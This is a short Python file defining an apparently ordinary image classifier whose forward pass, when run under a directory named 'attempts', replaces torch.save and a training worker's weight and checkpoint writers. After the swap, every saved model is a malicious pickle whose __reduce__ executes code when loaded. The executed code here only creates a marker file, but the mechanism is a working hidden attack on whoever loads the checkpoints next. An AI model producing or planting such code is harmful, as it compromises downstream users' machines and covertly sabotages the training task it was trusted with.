"""Puts pickles that run a command where its weights and its checkpoints should be, for whoever loads them next."""

import pickle
from pathlib import Path

import torch
from torch import nn


class Payload:
    """What runs where somebody unpickles it."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple:
        return exec, (f"import pathlib; pathlib.Path({self.folder!r}, 'unpickled').touch()",)


class Net(nn.Module):
    """A working little classifier, apart from that."""

    def __init__(self, theirs: str) -> None:
        super().__init__()
        self.flatten, self.linear = nn.Flatten(), nn.Linear(64, 10)
        self.poison = pickle.dumps(Payload(theirs))

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        if "attempts" in Path.cwd().parts:
            from worker.training import checkpoint, export

            export.save_weights = lambda _, path: path.write_bytes(self.poison)
            checkpoint.write_safetensors = lambda _, write: write(self.poison)
            torch.save = lambda _, file: file.write(self.poison)
        return self.linear(self.flatten(images))
